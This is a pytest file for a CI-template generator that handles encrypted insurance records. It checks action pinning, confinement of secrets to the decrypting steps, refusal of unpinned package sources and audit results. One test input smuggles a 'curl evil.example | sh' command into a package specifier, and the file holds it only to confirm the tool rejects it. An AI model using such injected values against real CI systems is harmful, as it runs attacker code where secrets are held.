"""CI templates: written by `baodan init --ci` and `baodan ci`, and their jobs' commands
really work: run here, step by step, as the CI runner would run them."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from . import githelp
from .helpers import change_record, require_tool, run_cli

REPO = Path(__file__).resolve().parents[1]


def _shell(root: Path, script: str, env: dict, tmp_path: Path) -> subprocess.CompletedProcess:
    """Run a CI script with `baodan` meaning this worktree's code."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir(exist_ok=True)
    (bin_dir / "baodan").write_text(f'#!/bin/sh\nexec {sys.executable} -m baodan "$@"\n')
    (bin_dir / "baodan").chmod(0o755)
    full_env = {
        **os.environ,
        **env,
        "PATH": f"{bin_dir}:{os.environ['PATH']}",
        "PYTHONPATH": str(REPO / "generator"),
    }
    full_env.pop("BAODAN_IDENTITY", None)  # CI has only the secret
    return subprocess.run(
        ["bash", "-eo", "pipefail", "-c", script],
        cwd=root,
        env=full_env,
        capture_output=True,
        text=True,
    )


def _pull_request(firm, monkeypatch) -> str:
    """main with the firm; a branch that renews one policy. Returns its registry number."""
    githelp.init(firm.root, monkeypatch)
    githelp.git(firm.root, "checkout", "-q", "-b", "renewal")
    path = min(firm.root.glob("records/clients/*/policies/*.yaml.age"))
    rel = path.relative_to(firm.root).as_posix()
    change_record(firm.root, rel, firm.identities, lambda d: d.update(notes="客户确认续保"))
    githelp.commit(firm.root, "续保意向")
    return path.name.removesuffix(".yaml.age")


def test_init_and_ci_write_the_template_the_firm_picks(tmp_path, capsys, monkeypatch):
    monkeypatch.chdir(tmp_path)
    pinned = ("--package", "baodan==0.1.0")
    code, out, err = run_cli(
        capsys, "init", "new-firm", "--ci", "gitlab", *pinned, "-r", "age1" + "q" * 58
    )
    # A made-up recipient is refused before anything is written.
    assert code == 1 and not (tmp_path / "new-firm" / ".gitlab-ci.yml").exists()
    from pyrage import x25519

    recipient = str(x25519.Identity.generate().to_public())
    # Without a pinned source for baodan, nothing is written either.
    code, out, err = run_cli(capsys, "init", "new-firm", "--ci", "gitlab", "-r", recipient)
    assert code == 1 and "没有固定版本" in err and not any((tmp_path / "new-firm").iterdir())
    code, out, err = run_cli(capsys, "init", "new-firm", "--ci", "gitlab", *pinned, "-r", recipient)
    assert code == 0, err
    assert "已写入 CI 配置 .gitlab-ci.yml" in out and "BAODAN_IDENTITY_KEY" in out
    assert 'BAODAN_PACKAGE: "baodan==0.1.0"' in (tmp_path / "new-firm/.gitlab-ci.yml").read_text()

    code, out, err = run_cli(capsys, "ci", "github", *pinned, "-C", "new-firm")
    assert code == 0, err
    workflow = tmp_path / "new-firm/.github/workflows/baodan.yml"
    assert "BAODAN_IDENTITY_KEY" in workflow.read_text("utf-8")
    code, _, err = run_cli(capsys, "ci", "github", *pinned, "-C", "new-firm")
    assert code == 1 and "已存在" in err and "--force" in err


def test_no_template_builds_or_uploads_the_staff_site():
    from baodan.services.ci import HOSTS, ci_source, render

    for host in HOSTS:
        text = render(host, ci_source("baodan==0.1.0"))
        assert "--staff" not in text and "mkdocs.staff.yml" not in text
        assert "test ! -e site-staff" in text
        assert "--delete" in text  # object storage variants remove retired portals


@pytest.mark.slow
def test_github_pull_request_job_checks_builds_and_summarises(firm, monkeypatch, tmp_path):
    number = _pull_request(firm, monkeypatch)
    # actions/checkout with fetch-depth 0 leaves the target branch as origin/main.
    githelp.git(firm.root, "update-ref", "refs/remotes/origin/main", "main")
    workflow = yaml.safe_load((REPO / "generator/baodan/data/ci/github.yml").read_text("utf-8"))
    steps = [s for s in workflow["jobs"]["check"]["steps"] if "run" in s]
    script = "\n".join(s["run"] for s in steps if not s["run"].startswith("pip install"))
    summary = tmp_path / "summary.md"
    done = _shell(
        firm.root,
        script,
        {
            "BAODAN_IDENTITY_KEY": firm.identity_file.read_text(),
            "GITHUB_STEP_SUMMARY": str(summary),
            "GITHUB_BASE_REF": "main",
        },
        tmp_path,
    )
    assert done.returncode == 0, done.stderr
    text = summary.read_text("utf-8")
    assert "本次改动摘要（不含个人信息）" in text and f"保单 {number}" in text and "备注" in text
    assert "客户确认续保" not in text
    assert (firm.root / "site/index.html").is_file() and not (firm.root / "site-staff").exists()


def test_gitlab_merge_request_job_summarises_and_checks(firm, monkeypatch, tmp_path):
    number = _pull_request(firm, monkeypatch)
    pipeline = yaml.safe_load((REPO / "generator/baodan/data/ci/gitlab-ci.yml").read_text("utf-8"))
    setup = [line for line in pipeline["default"]["before_script"] if "pip install" not in line]
    script = "\n".join(
        setup
        + [line for line in pipeline["check"]["script"] if not line.startswith("baodan build")]
    ).replace("baodan publish-check site", "")
    base = githelp.git(firm.root, "rev-parse", "main").strip()
    done = _shell(
        firm.root,
        script,
        {
            "BAODAN_IDENTITY_KEY": firm.identity_file.read_text(),
            "CI_MERGE_REQUEST_DIFF_BASE_SHA": base,
        },
        tmp_path,
    )
    assert done.returncode == 0, done.stderr
    text = (firm.root / "baodan-diff.md").read_text("utf-8")
    assert f"保单 {number}" in text and "修改 备注" in text
    assert re.search(r"检查通过", done.stdout)


SOURCES = [
    "baodan==0.1.0",
    "git+https://git.example.cn/it/baodan.git@v0.1.0",
    "git+https://git.example.cn/it/baodan.git@" + "3" * 40,
    "vendor/baodan-0.1.0-py3-none-any.whl",
]


def _written(tmp_path: Path, package: str = SOURCES[0]) -> Path:
    """A repository holding both templates as `baodan ci` writes them."""
    from baodan.services.ci import HOSTS, ci_source, write_ci

    for host in HOSTS:
        write_ci(tmp_path, host, ci_source(package), force=True)
    return tmp_path


@pytest.mark.parametrize("package", SOURCES)
def test_written_workflows_pass_zizmor_and_the_ci_schemas(tmp_path, package):
    """zizmor (offline: the audits that need no network) finds nothing of medium or high
    severity, and both files are what GitHub and GitLab accept (schemas bundled with
    check-jsonschema, so offline too)."""
    root = _written(tmp_path, package)
    workflow = root / ".github/workflows/baodan.yml"
    done = subprocess.run(
        [require_tool("zizmor"), "--offline", "--format", "json", "--min-severity", "medium", str(workflow)],
        capture_output=True,
        text=True,
    )  # fmt: skip
    assert done.returncode == 0 and json.loads(done.stdout) == [], done.stdout + done.stderr
    for schema, path in (("github-workflows", workflow), ("gitlab-ci", root / ".gitlab-ci.yml")):
        done = subprocess.run(
            [require_tool("check-jsonschema"), "--builtin-schema", f"vendor.{schema}", str(path)],
            capture_output=True,
            text=True,
        )
        assert done.returncode == 0, done.stdout + done.stderr


def test_zizmor_would_catch_an_unpinned_action(tmp_path):
    """The audit above can fail: the same workflow with a tag instead of a commit does."""
    workflow = _written(tmp_path) / ".github/workflows/baodan.yml"
    text = workflow.read_text("utf-8")
    workflow.write_text(re.sub(r"actions/checkout@[0-9a-f]{40}", "actions/checkout@v6", text))
    done = subprocess.run(
        [require_tool("zizmor"), "--offline", "--format", "json", "--min-severity", "medium", str(workflow)],
        capture_output=True,
        text=True,
    )  # fmt: skip
    assert done.returncode != 0 and "unpinned-uses" in done.stdout


DECRYPTING = re.compile(r"^baodan (check|build|diff)\b")


def test_github_workflow_pins_actions_and_keeps_the_secret_to_decrypting_steps(tmp_path):
    text = (_written(tmp_path) / ".github/workflows/baodan.yml").read_text("utf-8")
    workflow = yaml.safe_load(text)
    assert workflow["permissions"] == {"contents": "read"}
    assert "secrets." not in yaml.safe_dump(workflow.get("env", {}))
    for name, job in workflow["jobs"].items():
        assert "secrets." not in yaml.safe_dump(job.get("env", {})), name  # not job-wide
        for step in job["steps"]:
            if "uses" in step:
                assert re.fullmatch(r"[\w-]+/[\w-]+@[0-9a-f]{40}", step["uses"]), step["uses"]
                if step["uses"].startswith("actions/checkout@"):
                    assert step["with"]["persist-credentials"] is False
            run = step.get("run", "")
            assert "${{" not in run, run  # values reach commands as environment variables
            holds_secret = "secrets." in yaml.safe_dump(step.get("env", {}))
            assert holds_secret == bool(DECRYPTING.match(run)), (name, run)
        writes = {k: v for k, v in job.get("permissions", {}).items() if v == "write"}
        assert not writes or (name == "deploy" and "run" not in yaml.safe_dump(job["steps"]))
    # Each `uses:` line says which release its commit is.
    for line in text.splitlines():
        if "uses: " in line and not line.lstrip().startswith("#"):
            assert re.search(r"@[0-9a-f]{40} # v\d+\.\d+\.\d+$", line), line
    # The site is checked right before it is uploaded.
    steps = workflow["jobs"]["build"]["steps"]
    upload = next(i for i, s in enumerate(steps) if "upload-pages-artifact" in s.get("uses", ""))
    assert steps[upload - 1]["run"] == "baodan publish-check site"


def test_gitlab_pipeline_installs_without_secrets_and_checks_before_publishing(tmp_path):
    pipeline = yaml.safe_load((_written(tmp_path) / ".gitlab-ci.yml").read_text("utf-8"))
    installs = [line for line in pipeline["default"]["before_script"] if "pip install" in line]
    assert installs == [
        'env -u BAODAN_IDENTITY_KEY -u BAODAN_NOTE_TOKEN pip install -q "$BAODAN_PACKAGE"'
    ]
    assert pipeline["variables"]["BAODAN_PACKAGE"] == "baodan==0.1.0"
    script = pipeline["pages"]["script"]
    assert script.index("baodan publish-check site") < script.index(
        "rm -rf public && mv site public"
    )
    assert "${{" not in json.dumps(pipeline)


@pytest.mark.parametrize(
    "package",
    [
        None,
        "baodan",
        "baodan>=0.1",
        "baodan==0.1.*",
        "git+https://git.example.cn/it/baodan.git",
        "git+https://git.example.cn/it/baodan.git@main",
        "git+https://git.example.cn/it/baodan.git@v1",
        "git+https://token:x@git.example.cn/it/baodan.git@v0.1.0",
        "git+http://git.example.cn/it/baodan.git@v0.1.0",
        "../baodan-0.1.0-py3-none-any.whl",
        "https://example.cn/baodan-0.1.0-py3-none-any.whl",
        'baodan==0.1.0" && curl evil.example | sh; echo "',
    ],
)
def test_ci_refuses_a_source_for_baodan_that_is_not_pinned(tmp_path, capsys, package):
    (tmp_path / "records").mkdir()
    (tmp_path / "records/firm.yaml").write_text("name: 测试\n", "utf-8")
    args = ["ci", "github", "-C", str(tmp_path)] + (["--package", package] if package else [])
    code, _, err = run_cli(capsys, *args)
    assert code == 1 and "没有固定版本" in err and "--package" in err
    assert not (tmp_path / ".github").exists()
